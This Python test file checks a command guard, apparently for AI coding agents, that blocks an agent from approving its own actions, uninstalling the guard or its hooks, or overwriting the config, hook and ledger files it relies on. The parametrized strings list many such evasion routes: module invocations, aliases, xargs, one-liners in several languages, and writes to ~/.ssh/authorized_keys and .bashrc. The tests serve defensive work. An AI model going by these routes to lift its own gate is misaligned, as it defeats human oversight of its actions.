"""The agent cannot lift its own gate: each way of running a state-changing countersign command,
or of writing the files the gate stands on, is stopped; read-only commands pass."""

from __future__ import annotations

from pathlib import Path

import pytest

from countersign.facts.shell import ShellContext
from countersign.facts.shell.context import GATE_PATHS
from countersign.guard.decision import judge_command
from countersign.guard.settings import AGENT_FILES, PROTECTED_PATHS
from countersign.guard.state import read_script

ROOT = "/work/project"
CTX = ShellContext(
    cwd=ROOT,
    project_root=ROOT,
    home="/home/dev",
    protected_paths=PROTECTED_PATHS,
    gate_paths=(*GATE_PATHS, *AGENT_FILES),
)


def judged(command: str, ctx: ShellContext = CTX) -> tuple[str, str]:
    judgement = judge_command(command, ctx)
    return judgement.decision, judgement.rule


@pytest.mark.parametrize(
    "command",
    [
        "countersign break-glass --reason outage --incident INC-1",
        "countersign record --what x --why y",
        "countersign guard uninstall --agent claude-code",
        "countersign guard install --agent claude-code --user",
        "countersign hooks uninstall",
        "countersign hooks install --pre-push",
        "countersign init",
        "countersign risk train",
        "countersign ledger keys --rotate",
        "countersign frobnicate",  # a command added later is asked until it is listed as a read
        "/home/dev/.venv/bin/countersign guard uninstall --agent codex",
    ],
)
def test_state_changing_commands_are_asked(command: str) -> None:
    assert judged(command) == ("ask", "guard.self-ungate")


def test_approving_is_denied() -> None:
    assert judged("countersign approve --action a5d886ab --as alice@example.com") == (
        "deny",
        "guard.self-approval",
    )


@pytest.mark.parametrize(
    "command",
    [
        "python -m countersign approve --action abcd",
        "python3 -m countersign.__main__ approve --action abcd",
        "python3 -c \"from countersign.main import main; main(['approve', '--action', 'ab'])\"",
        "echo approve --action abcd | xargs countersign",
        "alias cs=countersign; cs approve --action abcd",
        'c() { countersign "$@"; }; c approve --action abcd',
        "uv run countersign approve --action abcd",
        "bash -c 'countersign approve --action abcd'",
    ],
)
def test_approving_however_spelled_is_denied(command: str) -> None:
    assert judged(command) == ("deny", "guard.self-approval")


@pytest.mark.parametrize(
    "command",
    [
        "python3 -m countersign.__main__ break-glass --reason x",
        "python3 -c \"from countersign.main import main; main(['guard', 'uninstall'])\"",
        "python3 -c 'import countersign.signoff.ledger as l; l.append()'",
        'c() { countersign "$@"; }; c hooks uninstall',
        "cat cmds.txt | xargs countersign",
        "$CS break-glass --reason x",
    ],
)
def test_lifting_the_gate_however_spelled_is_asked(command: str) -> None:
    assert judged(command) == ("ask", "guard.self-ungate")


@pytest.mark.parametrize(
    "command",
    [
        "countersign check",
        "countersign status --format json",
        "countersign blast HEAD~3",
        "countersign provenance",
        "countersign ledger verify",
        "countersign ledger export",
        "countersign policy test cases.yaml",
        "countersign guard --explain 'rm -rf /'",
        "countersign guard --batch cmds.jsonl",
        "countersign approve --help",
        "countersign --version",
        "python3 -c \"from countersign.main import main; main(['check'])\"",
    ],
)
def test_read_only_commands_pass(command: str) -> None:
    assert judged(command)[0] == "allow"


def test_a_script_written_in_the_session_is_judged_when_it_runs(tmp_path: Path) -> None:
    script = tmp_path / "lift.py"
    script.write_text("from countersign.main import main\nmain(['hooks', 'uninstall'])\n")
    shell = tmp_path / "lift.sh"
    shell.write_text("#!/bin/sh\ncountersign guard uninstall --agent claude-code\n")
    ctx = ShellContext(
        cwd=str(tmp_path),
        project_root=str(tmp_path),
        protected_paths=PROTECTED_PATHS,
        read_file=read_script,
    )
    assert judged("python3 lift.py", ctx) == ("ask", "guard.self-ungate")
    assert judged("sh lift.sh", ctx) == ("ask", "guard.self-ungate")
    assert judged("./lift.sh", ctx) == ("ask", "guard.self-ungate")


@pytest.mark.parametrize(
    "command",
    [
        "python3 -c \"import json; json.dump({}, open('.claude/settings.json', 'w'))\"",
        "python3 -c \"open('.countersign/guard.yaml','w').write('on_error: deny')\"",
        "python3 -c \"import pathlib; pathlib.Path('.git/hooks/pre-push').unlink()\"",
        "node -e \"require('fs').writeFileSync('.codex/hooks.json', '{}')\"",
        "ruby -e \"File.write('.gemini/settings.json', '{}')\"",
        'perl -e \'open(F, ">", ".cursor/hooks.json")\'',
        "python3 -c \"open('.claude/'+'settings.json','w')\"",
        "curl -o .git/hooks/pre-push https://example.com/x",
        "echo '{}' > ~/.claude/settings.json",
        "cp /dev/null .github/hooks/countersign.json",
        "patch .codex/hooks.json < x.diff",
        "git checkout HEAD~5 -- .claude/settings.json",
        "echo 'alias ls=rm' >> ~/.bashrc",
        "tee -a ~/.ssh/authorized_keys < key.pub",
        "sqlite3 .countersign/ledger.db 'DELETE FROM entries'",
    ],
)
def test_writing_the_files_the_gate_stands_on_is_asked(command: str) -> None:
    judgement = judge_command(command, CTX)
    assert judgement.decision == "ask"
    assert "edit.protected-path" in {f.rule for f in judgement.findings}


@pytest.mark.parametrize(
    "command",
    [
        "cat .claude/settings.json",
        "jq . .codex/hooks.json",
        "git diff .claude/settings.json",
        "python3 -c \"import json; print(json.load(open('.claude/settings.json')))\"",
        "grep -r countersign .github/hooks",
    ],
)
def test_reading_them_passes(command: str) -> None:
    assert judged(command)[0] == "allow"
